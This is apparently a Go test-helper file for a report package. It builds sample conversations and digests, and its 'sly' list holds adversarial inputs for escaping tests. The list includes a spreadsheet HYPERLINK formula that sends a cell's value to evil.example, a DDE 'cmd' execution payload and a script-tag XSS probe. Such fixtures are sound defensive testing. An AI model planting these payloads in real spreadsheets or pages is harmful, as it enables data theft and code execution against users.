package report

import (
	"fmt"
	"strings"
	"time"

	"engage/internal/corpus"
	"engage/internal/insight"
	"engage/internal/lang"
	"engage/internal/rubric"
	"engage/internal/score"
)

var tokyo = time.FixedZone("JST", 9*60*60)

func digestHead(l lang.Lang) *Head {
	h := evalHead(l)
	h.Zone = tokyo
	for i := range h.Rubric.Modes {
		h.Rubric.Modes[i].Owner = rubric.Label{EN: fmt.Sprint("desk ", i), JA: fmt.Sprint("係", i)}
	}
	h.Rubric.Acts = []rubric.ActSpec{{Name: "trouble", Label: rubric.Label{EN: "trouble", JA: "困り事"}}}
	h.Rubric.Cues = []rubric.Cue{{ID: "trouble.x", Act: "trouble"}}
	return h
}

// saying is a post of a conversation between minato_pan and others: who says
// what, in answer to which post before (-1 for none).
type saying struct {
	who  string
	up   int
	text string
}

// saidIn makes a conversation, every post an hour after the one before; the
// first rune of a text is a sign of trouble, where somebody else writes it.
func saidIn(id string, start time.Time, posts ...saying) *score.Result {
	c := &corpus.Conversation{ID: corpus.ConversationID(id), Accounts: []corpus.AuthorID{"minato_pan"}}
	r := &score.Result{Conversation: c, Primary: rubric.ActiveSupport, TwoWay: 0.4214, Runner: rubric.Promotion, None: 0.1}
	r.Scores[rubric.ActiveSupport], r.Strength[rubric.ActiveSupport] = 61.25, 0.9
	for i, s := range posts {
		p := corpus.Post{ID: corpus.PostID(fmt.Sprint(id, i)), Author: corpus.Handle(s.who), Handle: s.who, Text: s.text}
		if !start.IsZero() {
			p.At = start.Add(time.Duration(i) * time.Hour)
		}
		if p.Author != "minato_pan" && s.text != "" {
			p.Mentions = []corpus.AuthorID{"minato_pan"}
			end := len(string([]rune(s.text)[:1]))
			if !strings.HasPrefix(s.text, string([]rune(s.text)[:1])) { // no UTF-8
				end = 1
			}
			r.Evidence = append(r.Evidence, score.Evidence{Post: i, End: end, Cue: "trouble.x", Act: "trouble"})
		}
		c.Posts = append(c.Posts, p)
		c.Ties = append(c.Ties, corpus.Tie{Parent: s.up, Via: corpus.ViaReply})
	}
	r.Acts = []score.ActCount{{Act: "trouble", Count: 1}}
	r.Contributions = []score.Contribution{{Mode: rubric.ActiveSupport, Feature: "cue.trouble.x/other", Points: 61.25, LogOdds: 1.5, Evidence: r.Evidence}}
	r.Interaction = c.Interaction()
	return r
}

var spring = time.Date(2026, 3, 2, 9, 30, 0, 0, tokyo)

// digestOf finds everything about minato_pan in conversations, as a run does.
func digestOf(results ...*score.Result) *Digest {
	const id = "minato_pan"
	acc := &insight.Account{ID: id, Handle: id, ChosenBy: "flag", Intended: rubric.None}
	f := insight.Findings{Account: acc, Bonds: &insight.Bonds{Account: id, Zone: tokyo}}
	var box insight.Inbox
	var picks insight.Picks
	d := &Digest{Analysis: Analysis{Accounts: []*insight.Account{acc}, Summary: &insight.Summary{}, Voice: &insight.Voice{}}}
	f.Terms = insight.Terms{Lapsed: 30 * 24 * time.Hour, Newcomer: 30 * 24 * time.Hour}
	for _, r := range results {
		acc.Add(id, r)
		box.Add(r)
		f.Bonds.Add(r)
		picks.Add(id, r)
		f.Terms.Add(r.Conversation)
		d.Summary.Add(r)
	}
	f.Inbox = box.List(insight.InboxOptions{Within: 7 * 24 * time.Hour, Zone: tokyo})
	f.Best, f.Worst = picks.Best(1), picks.Worst(acc, 3)
	d.Of = []insight.Findings{f}
	return d
}

// reported writes results and their digest.
func reported(t interface{ Fatal(...any) }, w Reporter, results ...*score.Result) {
	for _, r := range results {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(digestOf(results...)); err != nil {
		t.Fatal(err)
	}
}

// sly are texts that try to be more than text somewhere.
var sly = []string{
	"=HYPERLINK(\"https://evil.example/?\"&A1,\"無料\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "　＝1+1", "@minato_pan 助けて",
	"a | b | c", "|", "\\|", "\\\\|", "`|`", "``", "`@minato_pan", "@a\\|b", "@a|@b|@c", "\\", "**太字**", "*", "_下_", "~~線~~", "***", "---", "# 見出し", "> 引用", "- 一覧", "1. 番号", "1) 番号",
	"<script>alert(1)</script>", "<b>x", "<!-- 注", "<https://evil.example>", "<me@evil.example>", "&lt;b&gt;", "&copy;", "&#60;", "&", "AT&T",
	"[偽](https://evil.example)", "![絵](https://evil.example/x.png)", "[a]: https://evil.example", "[^1]", "[x] 済", "https://evil.example/a_b", "www.evil.example", "WWW.evil.example", "ftp://evil.example", "me@evil.example", "xmpp:me@evil.example",
	"ねえhttps://evil.exampleだよ", "#123", "＃123", "GH-12", "minato/pan#9", "1234567", "deadbeef", "$x$と$y$", ":tada:", "「すごい」", "！？", "(*´ω｀*)", "￣｜￣",
	"一行目\n二行目", "一\r\n二\r三\u2028四", "\x00\x01\x1b[31m", "\u202e逆", "\ufffe\uffff", "\xff\xfe", "_x0041_", "_x000D_", "_x005F_x0041_", " 先頭", "末尾 ", "", "  ", "\u200b", "😀👨‍👩‍👧", strings.Repeat("あ", 40000), strings.Repeat("😀", 20000), strings.Repeat("行\n", 400),
}
